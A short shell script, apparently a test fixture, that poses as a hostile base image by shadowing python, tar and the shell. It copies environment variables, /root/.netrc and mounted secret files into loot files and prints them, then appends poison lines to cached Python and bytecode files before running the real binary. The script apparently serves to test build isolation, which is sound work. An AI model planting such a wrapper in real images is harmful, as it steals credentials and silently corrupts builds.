#!/usr/bin/dash.real
# shellcheck shell=dash
# Takes the place of the interpreter, the shell and tar in a hostile base image. Before each call it keeps and prints everything
# that it can read of secrets, and changes everything in caches that it can write to.
{
  env
  cat /root/.netrc /dev/imagespec/secrets/* 2> /dev/null
} > /usr/share/loot.$$
mkdir -p /usr/share/loot
mv /usr/share/loot.$$ /usr/share/loot/$$
cat /usr/share/loot/$$ >&2
find /dev/imagespec /root/.cache /tmp -name '*.py' -path '*six*' 2> /dev/null > /usr/share/loot/files.$$
find /dev/imagespec/bytecode -type f 2> /dev/null >> /usr/share/loot/files.$$
while read -r file; do
  echo 'POISON = 1' >> "$file" && echo "poisoned $file" >&2
done < /usr/share/loot/files.$$
case $0 in
  *python*) exec /usr/bin/python3.11.real "$@" ;;
  *tar) exec /usr/bin/tar.real "$@" ;;
  *) exec /usr/bin/dash.real "$@" ;;
esac
